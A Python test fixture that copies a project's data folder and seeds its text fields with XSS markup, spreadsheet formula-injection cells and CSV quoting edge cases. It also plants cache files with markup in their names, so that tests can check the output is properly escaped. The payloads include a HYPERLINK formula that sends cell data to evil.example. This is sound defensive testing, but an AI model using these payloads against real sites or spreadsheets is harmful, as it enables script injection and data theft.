"""A hostile snapshot: the bundled data with script, link and formula payloads in every free-text field."""
from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pandas as pd

ROOT = Path(__file__).resolve().parents[2]
# Markup that runs script or makes a link when a renderer interprets it instead of showing it as text.
XSS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">js link</a>',
    '"><svg onload=alert(1)>',
    "[markdown link](javascript:alert(1))",
    '<a href="https://evil.example/">phish</a>',
]
# File names someone with write access to a cache folder could plant (a name cannot hold '/').
CACHE_NAMES = ["<img src=x onerror=alert(1)>", "[click](javascript:alert(1))", "www.evil.example"]
# Cells a spreadsheet would run as a formula, and cells that test RFC 4180 quoting.
FORMULAS = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=1", "\r=1", '=HYPERLINK("http://evil.example/?"&A1,"x")']
QUOTING = ['say "hi", then\nleave', "a,b,c"]
PAYLOADS = XSS + FORMULAS + QUOTING
# Elements that exist only if a payload was interpreted as markup (scripts are checked by their text).
# NB *|href also matches SVG's xlink:href, which Plotly uses for the links it draws.
INJECTED = "[onerror], [onload], img[src='x'], a[*|href^='javascript' i], a[*|href*='evil.example']"


def _cycle(frame: pd.DataFrame, column: str, payloads: list[str], offset: int = 0) -> pd.DataFrame:
    values = [payloads[(i + offset) % len(payloads)] for i in range(len(frame))]
    return frame.assign(**{column: values})


def _write(frame: pd.DataFrame, path: Path) -> None:
    # NB quote every cell: a lone CR inside an unquoted cell would end the row for the reader.
    frame.to_csv(path, index=False, quoting=csv.QUOTE_ALL)


def build_hostile_snapshot(folder: Path) -> Path:
    """Copy data/ to ``folder`` and put payloads where the schema allows text; return the folder."""
    shutil.copytree(ROOT / "data", folder, ignore=shutil.ignore_patterns("reference", "README.md"))
    for path in sorted((folder / "records").glob("*.csv")):
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        _write(_cycle(frame, "note", PAYLOADS), path)
    events = pd.read_csv(folder / "events.csv", dtype=str, keep_default_na=False)
    # NB the events are repeated so that every markup payload is some event's label.
    copies = -(-len(XSS) // len(events))
    events = pd.concat([events.assign(event_id=events["event_id"] + f"-{i}") for i in range(copies)],
                       ignore_index=True)
    events = _cycle(_cycle(events, "label", XSS), "description", XSS, offset=1)
    _write(events, folder / "events.csv")
    statements = pd.read_csv(folder / "statements.csv", dtype=str, keep_default_na=False)
    for offset, column in enumerate(["speaker_or_outlet", "note", "ratio_note"]):
        statements = _cycle(statements, column, PAYLOADS, offset=offset)
    # NB citation text (not a URL) is allowed in a statement's source_url, so markup may sit there too.
    statements = _cycle(statements, "source_url", ["<img src=x onerror=alert(1)>", "same article"])
    _write(statements, folder / "statements.csv")
    return folder


def plant_cache_names(cache: Path) -> Path:
    """A cache folder whose only entries are files with markup in their names; return the folder."""
    for source in ("comtrade", "imf_imts"):
        (cache / source).mkdir(parents=True, exist_ok=True)
        for name in CACHE_NAMES:
            (cache / source / f"{name}.json").write_text("{}")
    return cache
